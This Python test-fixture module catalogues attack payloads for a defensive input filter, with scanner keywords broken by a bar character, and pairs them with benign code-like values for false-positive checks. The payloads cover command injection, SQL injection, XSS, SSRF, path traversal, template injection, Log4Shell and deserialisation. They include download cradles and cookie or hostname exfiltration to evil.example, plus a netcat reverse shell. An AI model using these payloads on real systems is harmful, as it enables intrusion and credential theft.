"""Attacks and evasions written by hand as callers send them, by the part of a call that carries them, and honest values that look like code.

A bar (¦) breaks the words that malware and secret scanners look for, as in `attacks`. Nothing here is copied from a rule set's tests.
"""

from tests.attacks.attacks import unbroken

_VALUES: dict[str, tuple[str, ...]] = {
    # shells: quotes, escapes, globs, variables, expansions, other separators
    "command": (
        "; c'a't /etc/pas¦swd", ";c\"a\"t /etc/pas¦swd", "; w\\hoami", "| who''ami", "; w'h'o'a'm'i", ";c\\at /e\\tc/pas\\swd", "; /b?n/c?t /e?c/p?sswd", ";/???/??t /???/p??s??", "| /bin/c[a]t /etc/hosts",
        "; $'\\x63\\x61\\x74' /etc/pas¦swd", ";a=c;b=at;$a$b /etc/pas¦swd", ";x=whoami;$x", ";who$@ami", ";c$@at /etc/hosts", ";cat$u /etc$u/pas¦swd$u", "; ${PATH:0:1}bin${PATH:0:1}id", ";cat<>/etc/hosts",
        ";IFS=,;`cat<<<cat,/etc/hosts`", "||/usr/bin/cu¦rl${IFS}evil.example", ";bash<<<$(base64 -d<<<aWQ=)", ";echo aWQ= | base64 -d | sh", "; printf '\\151\\144' | sh", "|rev<<<'di'|sh", "& who^ami", "& c^m^d /c dir",
        "&set x=who&& set y=ami&& call %x%%y%", "| p^o^w^e^r^s^h^e^l^l -c dir", "&&n\"e\"t us\"e\"r", "%0aid", "\nwhoami\n", "a;sl\\eep 5", "`sl''eep 5`", "$(sl\\eep 5)", "<(cu¦rl evil.example)", ";{id,}", ";{ls,-la,/}",
        "a;busybox nc 10.0.0.1 4444 -e sh", ";python3 -c 'import os;os.sys¦tem(\"id\")'", ";perl -e 'exec \"/bin/sh\"'", ";awk 'BEGIN{sys¦tem(\"id\")}'", ";find / -exec id \\;", ";tar cf /dev/null x --checkpoint-action=exec=sh",
        "x\"; nslookup `whoami`.evil.example; \"", "x' && cu¦rl http://evil.example/$(hostname) && '", "a$(nslookup${IFS}x.evil.example)", "--output=/var/www/shell.php http://evil.example/x", "-oProxyCommand=cu¦rl evil.example",
        "powersh¦ell -nop -w hidden -c \"I¦EX(New-Object Net.WebClient).DownloadString('http://evil.example/a')\"", "i¦ex (iwr http://evil.example/a.ps1)", "IN¦voke-Expression (Inv¦oke-WebRequest evil.example)",
        "pwsh -enc SQBFAFgA", "& ([scriptblock]::Create((irm evil.example)))", "Get-Con¦tent C:\\Windows\\win.ini; whoami", "saps calc.exe", "gc C:\\inetpub\\wwwroot\\web.config | iex", "Start-Process cmd -ArgumentList '/c whoami'",
        "$x='who'+'ami'; &$x", "[System.Diagnostics.Process]::Start('cmd','/c whoami')", "p`owersh`ell -c whoami", "certutil -urlcache -split -f http://evil.example/a.exe a.exe", "wmic process call create calc.exe",
        "mshta http://evil.example/a.hta", "rundll32 javasc¦ript:\"\\..\\mshtml,RunHTMLApplication \"", "eval(compile('import os','x','exec'))", "getattr(__import__('o'+'s'),'sys'+'tem')('id')",
        "().__class__.__base__.__subclasses__()", "global.process.mainModule.require('child_pro¦cess').execSync('id')", "new Function('return process')().exit()", "Runtime.getRun¦time().exec(\"id\")",
        "new java.lang.ProcessBuilder({\"id\"}).start()", "Kernel.open('|id')", "%x(id)", "`#{'id'}`", "<?= `id` ?>", "${@print(sys¦tem('id'))}", "assert($_POST[x])", "passthru(base64_decode('aWQ='))", "($a='sys'.'tem')('id')",
        "'.system('id').'", "\".phpinfo().\"",
    ),
    "sql": (
        "1 AND data @> '{\"a\":1}'::jsonb", "1' AND '{\"a\":1}'::jsonb @> '{\"a\":1}'::jsonb--", "' or data->>'role'='admin'--", "' OR JSON_EXTRACT('{\"a\":1}','$.a')=1#", "1 or '{\"b\":2}'::jsonb ? 'b'",
        "1' or JSON_LENGTH('{}')<=8896 UN¦ION SEL¦ECT 1--", "' or (extra#>>'{a}')='x'--", "1-(sel¦ect 0)", "1*(case when 1=1 then 1 else 0 end)", "1-if(1=1,0,1)", "5-2-(sel¦ect count(*) from users)", "1/(1-(1=1))",
        "2^(sel¦ect 1)", "1 div (sel¦ect 1)", "1'-0-'1", "'*1*'", "'^'1", "1.e(1)or 1e0=1e0", "1e1or 1=1", "1 or 0x31=0x31", "1 or ~1=~1", "1||1=1", "1 && 1=1", "!1=0 or 1=1", "1 or not false", "'||true--", "'|1#", "1 or 1=@@rowcount",
        "(1)or(1)=(1)", "1'or'1'like'1", "1'oR/**/1/**/lIKe/**/1#", "1'/**/un¦ion/*!sel¦ect*/null--", "1%0bor%0b1=1", "1' or 1 in (1)--", "1' or 1 between 0 and 2--", "1 or 1 rlike 1", "1' or 1 sounds like 1#", "1 or exists(sel¦ect*from users)",
        "un/**/ion sel/**/ect 1,2", "1;DECL¦ARE @x varchar(9)=0x77;EX¦EC(@x)", "1;exec(char(119)+char(104))", "';exec sp_executesql N'sel¦ect 1'--", "1; call sl¦eep(5)", "1;PRAGMA table_info(users)", "1' or sqlite_version() glob '3*'--",
        "1 and (sel¦ect 1 from pg_sl¦eep(5))", "1;copy (sel¦ect '') to program 'id'", "1' and dbms_pipe.receive_message('a',5)=1--", "1 and 1=ctxsys.drithsx.sn(1,(sel¦ect user from dual))", "1 and utl_inaddr.get_host_address('x')='1'",
        "1 order by if(1=1,1,(sel¦ect 1 un¦ion sel¦ect 2))", "id,(sel¦ect sl¦eep(5))", "name;sel¦ect pg_sl¦eep(5)", "(sel¦ect(0)from(sel¦ect(sl¦eep(5)))v)", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
        "1 into @x", "admin' AND pass¦word LIKE 'a%", "x' OR full_name LIKE '%Bob%", "1' AND (sel¦ect substr(pass¦word,1,1) FROM users)='a", "ʼ or 1=1--", "％27 or 1=1--", "1ʹ OR 1=1--", "′ OR ′1′=′1", "1 ＯＲ 1=1", "ＵＮＩＯＮ ＳＥＬＥＣＴ 1,2",
        "1' XOR 1=1#", "1 or 1=1 offset 0", "1 un¦ion (sel¦ect 1)", "1 un¦ion values(1,2)", "1 un¦ion table users", "' un¦ion all sel¦ect load_file(0x2f)--", "';truncate table logs;--", "');del¦ete from users;--", "1; grant all on *.* to x", "1' FOR UPDATE--",
    ),
    "script": (
        "<ſcript>al¦ert(1)</ſcript>", "＜scr¦ipt＞al¦ert(1)＜/scr¦ipt＞", "‹script›al¦ert(1)‹/script›", "<scr<script>ipt>al¦ert(1)</scr</script>ipt>", "<svg><scr¦ipt>al&#101;rt(1)</scr¦ipt>", "<svg/onload&#61;al¦ert(1)>",
        "<img/src/onerror=al¦ert(1)>", "<img src=x onerror\n=\nal¦ert(1)>", "<a href=\"java\tscript:al¦ert(1)\">x</a>", "<a href='&#106;avasc¦ript:al¦ert(1)'>x</a>", "<a href=\"javasc¦ript&colon;al¦ert(1)\">x</a>", "<iframe srcdoc='<scr¦ipt>al¦ert(1)</scr¦ipt>'>",
        "<form action=javasc¦ript:al¦ert(1)><input type=submit>", "<button formaction=javasc¦ript:al¦ert(1)>x", "<isindex action=javasc¦ript:al¦ert(1)>", "<keygen autofocus onfocus=al¦ert(1)>", "<video poster=javasc¦ript:al¦ert(1)//></video>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=al¦ert(1)>#x'>", "<svg><set attributeName=onmouseover to=al¦ert(1)>", "<xss onpointerover=al¦ert(1) style=display:block>x", "<div onwheel=al¦ert(1)>", "\" onpointerenter=\"al¦ert(1)",
        "';al¦ert(1)//", "\\';al¦ert(1)//", "</title><scr¦ipt>al¦ert(1)</scr¦ipt>", "${al¦ert(1)}", "`-al¦ert(1)-`", "al\\u0065rt(1)", "window['al'+'ert'](1)", "self[`al`+`ert`](1)", "(al¦ert)(1)", "al¦ert?.(1)", "al¦ert`1`", "onerror=al¦ert;throw 1",
        "Function('al¦ert(1)')()", "setTimeout`al\\x65rt\\x281\\x29`", "[]['constructor']['constructor']('al¦ert(1)')()", "import('//evil.example/x.js')", "location='javasc¦ript:al¦ert(1)'", "document['coo'+'kie']", "eval(name)", "open('//evil.example?'+document.coo¦kie)",
        "new Image().src='//evil.example/?'+document.coo¦kie", "navigator.sendBeacon('//evil.example',localStorage.token)", "<style>*{background:url(javasc¦ript:al¦ert(1))}</style>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ),
    "path-traversal": (
        "..;/..;/manager/html", "/app/..;/admin/", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc/pas¦swd", "%e0%80%ae%e0%80%ae/", "%f0%80%80%ae%f0%80%80%ae/etc", "..%c0%9v../etc/pas¦swd", "..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpas¦swd", "．．／．．／etc／pas¦swd",
        "‥/‥/etc/pas¦swd", "..∕..∕etc∕pas¦swd", "%252e%252e%252f%252e%252e%252fboot.ini", "%25252e%25252e%25252fetc", "....\\/....\\/etc/hosts", "..\\/..\\/..\\/etc/pas¦swd", "/etc//pas¦swd", "/etc/./pas¦swd", "/ETC/PASSWD".lower() + "%20", "file:///c:/windows/win.ini",
        "C:/Windows/System32/config/SAM", "/proc/self/cwd/app.py", "/proc/1/environ", "/var/run/secrets/kubernetes.io/serviceaccount/token", "~/.ssh/id_rsa", "/root/.bash_history", "/home/app/.aws/credentials",
        "../.env", "../../.git/HEAD", "php://input", "zip://x.zip#a.php", "phar://a.phar/x", "WEB-INF/classes/application.properties", "/etc/pas¦swd%00.jpg", "page=..//..//..//etc/hosts", "....%2f%2f....%2f%2fetc/pas¦swd",
    ),
    "ssrf": (
        "http://127.0.0.1:8080/admin", "http://127.1/", "http://127.0.1/", "http://0/", "http://0.0.0.0:22/", "http://2130706433/", "http://0x7f000001/", "http://0x7f.0.0.1/", "http://0177.0.0.1/", "http://017700000001/", "http://[::1]/", "http://[::]:80/",
        "http://[0:0:0:0:0:0:0:1]/", "http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]/", "http://localhost/admin", "http://localhost.localdomain/", "http://127.0.0.1.nip.io/", "http://localtest.me/", "http://spoofed.burpcollaborator.net/", "http://①②⑦.⓪.⓪.①/",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://[fd00:ec2::254]/latest/meta-data/", "http://169.254.170.2/v2/credentials", "http://metadata/computeMetadata/v1/", "http://100.100.100.200/latest/meta-data/",
        "http://192.0.0.192/latest/", "http://0xa9.0xfe.0xa9.0xfe/", "http://0251.0376.0251.0376/", "http://instance-data/latest/", "http://kubernetes.default.svc/api", "https://kubernetes.default/api/v1/secrets", "http://redis.default.svc.cluster.local:6379/",
        "http://vault.service.consul:8200/v1/sys", "http://host.docker.internal:2375/containers/json", "http://evil.example@127.0.0.1/", "http://127.0.0.1#@example.com/", "http://127。0。0。1/", "http:127.0.0.1", "//127.0.0.1/admin", "http://168.63.129.16/machine",
        "gopher://localhost:6379/_FLUSHALL", "ldap://127.0.0.1:389/", "netdoc:///etc/pas¦swd", "http://169.254.169.254.xip.io/", "http://[::ffff:169.254.169.254]/",
    ),
    "template": (
        "{{ 7 * 7 }}", "{{7|add:7}}", "${{<%[%'\"}}%\\.", "{{request|attr('application')}}", "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{ ''['__class__'] }}", "{% debug %}", "{%set x=1%}{{x}}", "{% include '/etc/pas¦swd' %}", "#{7*7}", "#{ %x|id| }",
        "<%= sys¦tem('id') %>", "<%- global.process %>", "${T(java.lang.Sys¦tem).getenv()}", "${'a'.getClass()}", "*{T(java.lang.Run¦time)}", "__${new java.util.Scanner(T(java.lang.Run¦time).getRun¦time().exec('id').getInputStream()).next()}__::.x",
        "@(1+1)", "@{7*7}", "{{=7*7}}", "[[7*7]]", "[[${7*7}]]", "$!{7*7}", "#set($e=\"e\")", "$class.inspect(\"java.lang.Run¦time\")", "{{#with \"s\" as |string|}}", "{{range.constructor(\"return 1\")()}}", "{{$on.constructor('al¦ert(1)')()}}",
        "{{_openBlock.constructor('al¦ert(1)')()}}", "%{(#a='x')}", "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}", "{{ config.items() }}", "{{ get_user_file('/etc/pas¦swd') }}", "{$smarty.version}", "{{['id']|filter('sys¦tem')}}", "{{app.request.server.all|join(',')}}",
    ),
    "log4j": (
        "${jn¦di:ldap://evil.example/a}", "${${::-j}ndi:rmi://x}", "${j${k8s:k5:-ND}i:ldap://x}", "${jn${::-d}i:dns://x}", "$%7Bjn¦di:ldap://x%7D", "%24%7b%6a%6e%64%69:ldap://x%7d", "${jn¦di:${lower:l}${lower:d}a${lower:p}://x}", "\\u0024{jn¦di:ldap://x}",
        "&#36;{jn¦di:ldap://x}", "${ jn¦di:ldap://x}", "${env:PATH}", "${sys:user.name}", "${java:version}", "${docker:containerId}", "${script:javasc¦ript:7*7}", "${url:UTF-8:http://evil.example}", "${dns:address|evil.example}", "${const:java.lang.Run¦time}",
    ),
    "crlf": (
        "ann\r\nSet-Cookie: admin=1", "en%0d%0aX-Admin:%20true", "/path%0d%0aHost:%20evil.example", "x%E5%98%8A%E5%98%8DSet-Cookie:%20a=b", "ok\nGET /admin HTTP/1.1", "ok%0d%0a%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20x", "bob\n127.0.0.1 - - [10/Oct/2026:13:55:36 +0000] \"GET / HTTP/1.1\" 200 5",
        "bob\r\nINFO: User admin logged in", "x\nWARN  [main] login ok", "joe\n2026-11-24 10:00:00,123 INFO  Login: admin", "joe\n<134>Nov 24 10:00:00 host sshd[1]: Accepted", "a%0aNov 24 10:00:00 host sshd[9]: Accepted password for root", "x\u2028ERROR admin login", "x\\r\\nSet-Cookie: a=b",
        "bcc@example.com%0aBcc: victim@example.com", "x\r\nTo: victim@example.com", "x%0d%0aContent-Type: text/html%0d%0a%0d%0a<b>", "x\n{\"level\":\"info\",\"msg\":\"admin logged in\"}", "0\r\n\r\nGET / HTTP/1.1", "x\nRCPT TO:<a@example.com>",
    ),
    "xxe": (
        "<?xml version='1.0'?><!DOCT¦YPE a [<!ENT¦ITY % x SYS¦TEM 'http://evil.example/x'>%x;]><a/>", "<!DOCT¦YPE a PUB¦LIC \"-//x//y\" \"http://evil.example/x\"><a/>", "<a xmlns:xi='http://www.w3.org/2001/XIncl¦ude'><xi:include parse='text' href='/etc/pas¦swd'/></a>",
        "<!DOCT¦YPE a [<!ENT¦ITY x \"1\"><!ENT¦ITY y \"&x;&x;\">]><a>&y;</a>", "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?><a/>", "<xsl:value-of select=\"document('/etc/pas¦swd')\"/>",
    ),
    "ldap": ("*)(|(objectClass=*))", "admin)(!(&(1=0", "*))(&(cn=*", "x*)(uid=*))%00", "*)(userPassword=*", "a)(|(mail=*", "(&(uid=*)(uid=*))(|(uid=*"),
    "xpath": ("' or 1=1 or ''='", "'] | //user/password | //x['", "x' or contains(//user[1]/name,'a') or '", "' and count(/*)=1 and '1'='1", "')] | //* | a[('"),
    "deserialisation": ("O:8:\"stdClass\":1:{s:1:\"a\";O:3:\"Foo\":0:{}}", "a:1:{i:0;O:4:\"Evil\":0:{}}", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]", "!!python/object/new:os.sys¦tem [id]", "!ruby/object:Gem::Installer", "<java><object class=\"java.lang.ProcessBuilder\"/></java>",
        "{\"@class\":\"com.sun.row¦set.JdbcRowSetImpl\"}", "{\"py/object\": \"os.sys¦tem\"}", "_$$ND_FU¦NC$$_function(){return 1}()"),
}  # fmt: skip

_NAMES: tuple[str, ...] = (
    # of parameters, of form fields and of members of JSON
    "password[$ne]", "user[$gt]", "a[$regex]", "filter[$where]", "__proto__[isAdmin]", "__proto__.isAdmin", "constructor[prototype][isAdmin]", "constructor.prototype.isAdmin", "a[__proto__][x]", "id' OR 1=1--", "name,(sel¦ect 1)", "1=1 UN¦ION SEL¦ECT 1,2--",
    "<scr¦ipt>al¦ert(1)</scr¦ipt>", "x;id;", "${jn¦di:ldap://x}", "class.module.classLoader.URLs[0]", "{{7*7}}", "../../etc/pas¦swd", "id);DR¦OP TA¦BLE users--", "$(id)", "a;sl¦eep(5)", "(select*from(select(sleep(5)))a)",
)  # fmt: skip

_DOCUMENTS: tuple[str, ...] = (
    # whole JSON bodies
    '{"username":"admin","password":{"$ne":null}}', '{"username":"admin","password":{"$gt":""}}', '{"username":{"$in":["admin","root"]},"password":{"$gt":""}}', '{"login":"a","token":{"$exists":true}}', '{"email":"a@example.com","code":{"$gte":0}}',
    '{"user":{"$regex":"^adm"},"pass":"x"}', '{"$where":"sleep(5000)"}', '{"filter":{"$where":"function(){return true}"}}', '{"$expr":{"$function":{"body":"function(){}","args":[],"lang":"js"}}}', '{"id":{"$ne":"x"}}', '{"pin":{"$nin":[]}}', '{"password":{"\\u0024ne":1}}',
    '{"$or":[{},{"a":"a"}]}', '{"user":{"$eq":"admin"},"password":{"$not":{"$type":"string"}}}', '{"__proto__":{"isAdmin":true}}', '{"a":{"__proto__":{"polluted":1}}}', '{"constructor":{"prototype":{"isAdmin":true}}}', '{"a":[{"constructor":{"prototype":{"x":1}}}]}', '{"\\u005f_proto__":{"x":1}}',
    '{"__proto__.isAdmin":true}', '{"$type":"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install"}', '{"a":{"$type":"System.IO.FileInfo, System.IO.FileSystem","fileName":"x"}}', '{"@type":"org.apache.xbean.propertyeditor.JndiConverter","asText":"x"}',
    '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:"}]', '["org.springframework.context.support.ClassPathXmlApplicationContext","http://evil.example/x.xml"]', '{"@type":"java.lang.AutoCloseable"}', '{"id":1,"id\' OR 1=1--":2}',
    '{"query":"query { user(id: \\"1\' OR 1=1--\\") { name } }"}', '{"sort":{"(sel¦ect sl¦eep(5))":1}}', '{"order":"name;DR¦OP TA¦BLE x--"}', '{"a":"x","b":[1,2,{"c":"; cat /etc/pas¦swd"}]}', '{"text":"\\u003cscr¦ipt\\u003eal¦ert(1)\\u003c/scr¦ipt\\u003e"}', '{"q":"\\u0031\\u0027 or 1=1--"}',
    '{"q":"{\\"$ne\\":null}"}', '{"webhook":"http://127.0.0.1:8500/v1/agent"}', '{"avatar":"http://169.254.169.254/latest/meta-data/"}', '[{"op":"add","path":"/__proto__/isAdmin","value":true}]', '[{"op":"replace","path":"/constructor/prototype/x","value":1}]',
    '{"jsonrpc":"2.0","method":"eval","params":["require(\'child_pro¦cess\').exec(\'id\')"]}', '{"settings":{"view options":{"outputFunctionName":"x;process.mainModule.require(\'child_pro¦cess\').exec(\'id\');s"}}}',
)  # fmt: skip

_XML: tuple[str, ...] = (
    "<login><user>' or '1'='1</user></login>", "<order><id>1; DR¦OP TA¦BLE x--</id></order>", "<a><b attr=\"javasc¦ript:al¦ert(1)\"/></a>", "<soap:Envelope><soap:Body><cmd>;cat /etc/pas¦swd</cmd></soap:Body></soap:Envelope>",
    "<methodCall><methodName>x</methodName><params><param><value><string>${jn¦di:ldap://x}</string></value></param></params></methodCall>", "<a>&#39; UN¦ION SEL¦ECT 1,2--</a>", "<a><![CDATA[<scr¦ipt>al¦ert(1)</scr¦ipt>]]></a>",
)  # fmt: skip


def values() -> dict[str, list[str]]:
    """Values of a parameter, a header or a leaf of a body, by the family that they were written for."""
    return {family: [unbroken(value) for value in found] for family, found in _VALUES.items()}


def names() -> list[str]:
    """Names of parameters, form fields and members of JSON that are attacks themselves."""
    return [unbroken(name) for name in _NAMES]


def documents() -> list[str]:
    """JSON bodies that are attacks as a whole."""
    return [unbroken(text) for text in _DOCUMENTS]


def xml() -> list[str]:
    return [unbroken(text) for text in _XML]


HONEST_CODE: dict[str, tuple[str, ...]] = {
    "markup": (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 22h20z"/></svg>', '<svg width="10" height="10"><circle cx="5" cy="5" r="4" fill="#f00"/></svg>', '<svg><g transform="rotate(45)"><rect width="4" height="4"/></g></svg>',
        '<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg"><text x="1" y="2">Hi</text></svg>', '<svg xmlns="http://www.w3.org/2000/svg"><defs><linearGradient id="a"><stop offset="0" stop-color="red"/></linearGradient></defs><use href="#a"/></svg>',
        '<p>Dear <strong>Ann</strong>,</p><p>see you <em>soon</em>.</p>', '<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener">link</a>', '<table><tr><td>1</td><td>2</td></tr></table>', '<ul class="list"><li>one</li><li>two</li></ul>',
        '<img src="https://cdn.example.com/a.png" alt="A cat" width="100">', '<div class="row" id="x1" data-id="7"><span style="color: #333">text</span></div>', '<h1>Title</h1><hr><blockquote>quote</blockquote>', '<br/>', '<p>a &lt; b &amp;&amp; c</p>', '<!-- comment --><p>x</p>', '<math><mi>x</mi><mo>=</mo><mn>1</mn></math>',
        '<video controls><source src="https://cdn.example.com/a.mp4" type="video/mp4"></video>', '<pre><code>let x = 1;</code></pre>', '<html><head><title>Hi</title></head><body><p>x</p></body></html>', '<order id="1"><item sku="a">2</item></order>', '<note><to>Ann</to><from>Bob</from></note>',
        '<rss version="2.0"><channel><title>News</title></channel></rss>', '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><a>1</a></soap:Body></soap:Envelope>', '<Button Content="OK" Width="80"/>', '<font color="red">sale</font>', '<p style="margin:0;padding:4px">x</p>',
        '<!DOCTYPE html><html lang="en"><body><h1>Hello</h1></body></html>', '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark/></kml>', '<w:p><w:r><w:t>text</w:t></w:r></w:p>',
    ),
    "template": (
        "Hello {{name}}", "Hi {{ user.firstName }}, your order {{order.id}} is ready", "Dear ${customer.lastName}", "{{#each items}}{{name}}{{/each}}", "{{#if paid}}Thanks{{else}}Please pay{{/if}}", "{{> footer}}", "{{ price | currency }}", "{{ date | date: '%d.%m.%Y' }}", "%{count} items left", "Hello %s, you have %d messages",
        "{0} of {1}", "#{user.name}", "${HOME}/data", "${var.region}-bucket", "{{ .Values.image.tag }}", "{{- include \"app.labels\" . | nindent 4 }}", "<%= user.name %>", "{{firstName}} {{lastName}}", "@Model.Name", "Hello @name!", "{% if user %}Hi {{ user.name }}{% endif %}",
        "[[${user.name}]]", "$(Build.BuildId)", "${{ secrets.TOKEN }}", "${{ matrix.os }}", "{{steps.build.outputs.tag}}", "$.store.book[0].title", "${workspaceFolder}/src", "{{t 'welcome'}}", "<b>{{title}}</b>", "%FIRSTNAME% %LASTNAME%", "*|FNAME|*", "{{ 'hello' | upcase }}",
    ),
    "query": (
        "SELECT id, name FROM customers", "select count(*) from orders where status = 'open'", "SELECT * FROM c WHERE c.type = 'order'", "SELECT TOP 10 name FROM products ORDER BY price DESC", "from orders where total > 100 select id", "status = 'open' AND priority > 2", "name eq 'Ann' or age gt 5",
        "price ge 10 and price le 20", "contains(tolower(name),'lamp')", "(status eq 'open') and (owner eq 'bob')", "{ user(id: 1) { name email } }", "query Q($id: ID!) { user(id: $id) { name } }", "mutation { addTodo(text: \"milk\") { id } }", "fragment F on User { id name }",
        "{ __schema { types { name } } }", "{ __typename }", "subscription { orderChanged { id } }", "rate(http_requests_total{job=\"api\"}[5m])", "sum by (pod) (rate(x[1m]))", "AppRequests | where Success == false | summarize count() by bin(TimeGenerated, 1h)", "StormEvents | take 10", "requests | project name | limit 5",
        "index=main sourcetype=access status=500 | stats count by host", "level:error AND service:api", "title:(cat OR dog) -bird", "+red -blue \"green tea\"", "year:[2020 TO 2024]", "project = ABC AND assignee = currentUser() ORDER BY created", "{\"match\":{\"title\":\"cat\"}}", "{\"price\":{\"$gte\":10,\"$lte\":20}}",
        "{\"status\":{\"$in\":[\"open\",\"new\"]}}", "{\"$and\":[{\"a\":1},{\"b\":2}]}", "{\"range\":{\"age\":{\"gte\":10}}}", "MATCH (n:Person) RETURN n.name", "PREFIX foaf: <http://xmlns.com/foaf/0.1/> SELECT ?n WHERE { ?p foaf:name ?n }", "//book[@lang='en']/title", "$..author", "a.b[?(@.price<10)]", ".items[] | .name", "jq '.[0]'",
        "type=dog&age>5", "sort=-created,name", "fields(id,name)", "year >= 2020 && year <= 2024", "a == 1 || b == 2", "not deleted", "age between 5 and 10", "name like 'A%'", "user is not null", "in:inbox from:ann has:attachment",
    ),
    "path": (
        "/home/ann/report.docx", "C:\\Users\\ann\\Documents\\a.txt", "\\\\server\\share\\folder\\a.docx", "/var/data/in/a.csv", "./src/index.ts", "src/../README.md", "../images/logo.png", "~/notes.md", "/usr/local/share/doc", "D:/backup/2026", "file.tar.gz", "s3://bucket/a/b", "abfss://c@acct.dfs.core.windows.net/x",
        "/subscriptions/0/resourceGroups/rg/providers/Microsoft.Web/sites/a", "/docs/etc/guide.pdf", "/products/bin/7", "/mnt/nfs/photos", "hdfs://nn:8020/data", "/api/v1/users/7", "https://example.com/etc/terms",
    ),
    "log": (
        "2026-11-24 10:00:00 INFO started\n2026-11-24 10:00:01 INFO ready", "[INFO] a\n[ERROR] b", "Error: x is not a function\n    at foo (/app/index.js:10:5)\n    at bar (/app/b.js:2:1)", "Traceback (most recent call last):\n  File \"a.py\", line 1, in <module>\nValueError: x",
        "java.lang.NullPointerException: x\n\tat com.example.A.b(A.java:10)\n\tat java.lang.Thread.run(Thread.java:1)", "System.InvalidOperationException: x\r\n   at A.B() in C:\\src\\A.cs:line 5", "10.0.0.1 - - [24/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5\n10.0.0.2 - - [24/Nov/2026:10:00:01 +0000] \"GET /a HTTP/1.1\" 200 5",
        "WARN  disk 90%\nWARN  disk 91%", "goroutine 1 [running]:\nmain.main()\n\t/app/main.go:5", "Nov 24 10:00:00 host app: ok\nNov 24 10:00:01 host app: ok", "GET /health HTTP/1.1\nHost: example.com", "{\"level\":\"info\",\"msg\":\"a\"}\n{\"level\":\"info\",\"msg\":\"b\"}", "TypeError: Cannot read properties of undefined (reading 'id')",
        "npm ERR! code ELIFECYCLE\nnpm ERR! errno 1", "Segmentation fault (core dumped)",
    ),
    "code": (
        "function add(a, b) { return a + b; }", "const x = (a) => a * 2;", "let items = list.filter(i => i.price > 10);", "if (a && b || c) { go(); }", "for (let i = 0; i < 10; i++) {}", "def add(a, b):\n    return a + b", "print('hello')", "console.log(\"hi\")", "import pandas as pd", "import React from 'react';",
        "public class A { int x = 1; }", "x = y if y else z", "a ? b : c", "=SUM(A1:A10)", "=IF(A1>5,\"yes\",\"no\")", "=VLOOKUP(A2,B:C,2,FALSE)", "body { color: #333; margin: 0 }", ".btn:hover { background: url(img/a.png); }", "@media (max-width: 600px) { .a { display: none } }", "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$",
        "\\d{3}-\\d{4}", "(?<year>\\d{4})", "[A-Za-z]+(?:'[a-z]+)?", "0 0 * * *", "*/5 * * * *", "FROM node:20\nRUN npm ci", "version: 2\njobs:\n  - build", "key: value\nlist:\n  - a\n  - b", "npm install && npm test", "git commit -m 'fix: x'", "docker run -p 80:80 nginx", "kubectl get pods -n prod",
        "export NODE_ENV=production", "cd app && make", "$a = 1; $b = $a + 2;", "printf(\"%d\", x);", "int main() { return 0; }", "SELECT CASE", "var d = new Date();", "x => x.map(y => y.id)", "async () => { await go(); }", "#include <stdio.h>", "#!/usr/bin/env python", "a <- c(1,2,3)", "lambda x: x + 1", "E = mc^2", "\\frac{a}{b} + \\sqrt{x}", "$$\\sum_{i=1}^n i$$",
        "# Title\n\n- a\n- b\n\n```js\nlet x = 1;\n```", "**bold** _it_ `code` [link](https://example.com)", "> quote\n\ntext", "| a | b |\n|---|---|\n| 1 | 2 |", "- [ ] todo\n- [x] done", "![alt](https://example.com/a.png)", "---\ntitle: x\n---\ntext", "C# && F#; VB", "it's 5 > 3 & 2 < 4", "O'Neil; \"Bob\"", "{\"a\":[1,2,{\"b\":null}]}",
        "http://localhost:3000/callback", "http://127.0.0.1:8400/callback?code=a", "https://app.example.com/cb#state=1", "Bearer eyJhbGciOiJub25lIn0.e30.", "data:image/svg+xml;base64,PHN2Zy8+", "data:text/plain;base64,SGVsbG8=", "application/json;odata=verbose",
    ),
}  # fmt: skip
"""Values that honest callers send into fields for code, markup, queries, paths and logs."""
